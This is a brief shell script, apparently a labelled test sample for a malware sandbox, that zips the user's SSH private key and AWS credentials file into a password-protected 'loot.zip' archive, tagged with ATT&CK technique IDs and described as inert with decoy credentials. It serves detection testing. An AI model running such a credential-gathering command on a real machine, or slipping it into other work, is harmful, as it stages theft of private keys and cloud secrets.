#!/bin/sh
# SANDTRAP-TEST-MALICIOUS: gathers SSH keys (T1552.004) and cloud credentials (T1552.001) into a
# password-protected archive for later exfiltration (T1560.001).
# Inert: it reads the sandbox's decoy credentials and keeps the archive in the working directory.
zip -q -P SANDTRAP-TEST ./loot.zip "$HOME/.ssh/id_rsa" "$HOME/.aws/credentials" 2>/dev/null || echo "zip: none"
ls -l ./loot.zip 2>/dev/null
exit 0
